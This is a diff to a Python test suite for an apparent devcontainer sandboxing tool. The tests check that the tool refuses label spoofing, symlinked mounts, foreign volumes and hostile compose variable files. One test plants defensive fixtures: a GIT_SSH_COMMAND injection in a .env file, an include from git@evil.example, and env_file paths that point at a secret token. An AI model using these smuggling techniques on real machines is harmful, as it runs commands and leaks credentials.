@@ -127,24 +127,100 @@ def test_an_image_does_not_say_whose_a_container_is(place: Place, tmp_path: Path
     other = tmp_path / "other"
     other.mkdir()
     (other / ".devcontainer.json").write_text(json.dumps({"image": IMAGE}))
-    labels = {
-        "devcontainer.local_folder": str(other), "devcontainer.config_file": f"{other}/.devcontainer.json", "mine": "yes",
-        "com.docker.compose.project": "victim", "dev.aienv.devcontainer.guard": "0" * 16,
-    }  # fmt: skip
-    bad = "aienv-test/bad:1"
-    image(place.engine, "debian", bad, [f"LABEL {name}={value}" for name, value in labels.items()])
+    place_labels = {"devcontainer.local_folder": str(other), "devcontainer.config_file": f"{other}/.devcontainer.json"}
+    claims, project = "aienv-test/claims:1", "aienv-test/project:1"
+    image(place.engine, "debian", claims, [f"LABEL {name}={value}" for name, value in place_labels.items()])
+    image(place.engine, "debian", project, ["LABEL com.docker.compose.project=victim"])
     with place.engine.client() as client:
         victim = client.create_container(IMAGE, ["sleep", "1000"], labels={"com.docker.compose.project": "victim"})["Id"]
+        beside = client.create_container(claims, ["sleep", "1000"])["Id"]  # as a compose service would bring it
         try:
             client.start(victim)
-            place.lay({"image": bad})
-            made = place.ok("devcontainer", "up", "--workspace-folder", str(place.folder), "--id-label", "mine=yes")
-            assert "composeProjectName" not in made
+            client.start(beside)
             assert place.run("exec", "--workspace-folder", str(other), "true").returncode == 6
-            assert place.ok("devcontainer", "stop", "--id-label", "mine=yes")["containerId"] == made["containerId"]
+            place.lay({"image": claims})
+            refused = place.run("up")
+            assert refused.returncode == 4
+            assert "the label devcontainer.local_folder" in refused.stderr
+            place.lay({"image": project})
+            made = place.ok("up")
+            assert "composeProjectName" not in made
+            assert place.ok("stop")["containerId"] == made["containerId"]
             assert client.inspect_container(victim)["State"]["Running"]
-            assert place.ok("devcontainer", "down", "--id-label", "mine=yes")["removed"] == [made["containerId"]]
+            assert place.ok("down")["removed"] == [made["containerId"]]
             assert client.inspect_container(victim)["State"]["Running"]
         finally:
-            client.remove_container(victim, force=True)
-            client.remove_image(bad)
+            for name in (victim, beside):
+                client.remove_container(name, force=True)
+            for name in (claims, project):
+                client.remove_image(name)
+
+
+def test_a_mount_that_became_a_link_is_not_followed(place: Place, tmp_path: Path) -> None:
+    """What runs in the workspace can replace a folder in it, and an engine follows links when it starts a container again."""
+    secret = tmp_path / "secret"
+    secret.mkdir()
+    (secret / "key").write_text("SECRET")
+    (place.folder / "data").mkdir()
+    place.lay({"image": IMAGE, "mounts": ["type=bind,source=${localWorkspaceFolder}/data,target=/d"], "runArgs": ["--restart=always"]})
+    made = place.ok("up")
+    try:
+        with place.engine.client() as client:
+            assert client.inspect_container(made["containerId"])["HostConfig"]["RestartPolicy"]["Name"] in ("", "no")
+        place.ok("stop")
+        (place.folder / "data").rmdir()
+        (place.folder / "data").symlink_to(secret)
+        refused = place.run("up")
+        assert (refused.returncode, f"--grant mount:{secret}" in refused.stderr) == (4, True)
+        (place.folder / "data").unlink()
+        (place.folder / "data").mkdir()
+        place.ok("up")
+    finally:
+        place.ok("down")
+
+
+def test_a_volume_of_others_is_not_mounted(place: Place) -> None:
+    place.lay({"image": IMAGE, "mounts": ["type=volume,source=aienv-test-users,target=/d", "type=volume,source=aienv-test-own,target=/o"]})
+    with place.engine.client() as client:
+        client.create_volume("aienv-test-users")
+        try:
+            refused = place.run("up")
+            assert (refused.returncode, "--grant volume:aienv-test-users" in refused.stderr) == (4, True)
+            assert client.containers(all=True) == []
+            place.ok("up", "--grant", "volume:aienv-test-users")
+            place.ok("down")
+            place.ok("up", "--grant", "volume:aienv-test-users")  # our own is known again
+        finally:
+            place.ok("down", "--volumes")
+            left = {one["Name"] for one in client.volumes()["Volumes"] or ()}
+            assert left >= {"aienv-test-users"}
+            assert "aienv-test-own" not in left
+            client.remove_volume("aienv-test-users")
+
+
+def test_compose_reads_no_file_of_variables_of_a_stranger(place: Place, tmp_path: Path) -> None:
+    """Neither to start programs with it, nor to read files that it names."""
+    secret = tmp_path / "token.env"
+    secret.write_text("TOKEN=very-secret\n")
+    (place.folder / ".env").write_text(f'GIT_SSH_COMMAND=touch {tmp_path}/pwned\nCOMPOSE_EXPERIMENTAL_GIT_REMOTE=1\nX="{secret}"\nTAG=1\n')
+    compose = place.folder / "docker-compose.yml"
+    config = {"dockerComposeFile": "../docker-compose.yml", "service": "app", "workspaceFolder": "/"}
+    place.lay(config)
+    service = "services: {app: {image: 'aienv-test/dev:${TAG}', command: sleep 1000%s}}\n"
+    for line, word in (
+        ("include: ['git@evil.example:/x#v2']\n" + service % "", "it is no path"),
+        (service % ", env_file: '${X}'", f"--grant mount:{secret}"),
+        (f"x-s: &s {{app: {{image: x, env_file: {secret}}}}}\nservices: {{<<: *s}}\n", f"--grant mount:{secret}"),
+    ):
+        compose.write_text(line)
+        refused = place.run("up")
+        assert (refused.returncode, word in refused.stderr) == (4, True), refused.stderr
+    compose.write_text(service % ", restart: always")
+    try:
+        made = place.ok("up")
+        with place.engine.client() as client:
+            found = client.inspect_container(made["containerId"])
+            assert (found["Config"]["Image"], found["HostConfig"]["RestartPolicy"]["Name"] in ("", "no")) == (IMAGE, True)
+    finally:
+        place.ok("down")
+    assert not (tmp_path / "pwned").exists()
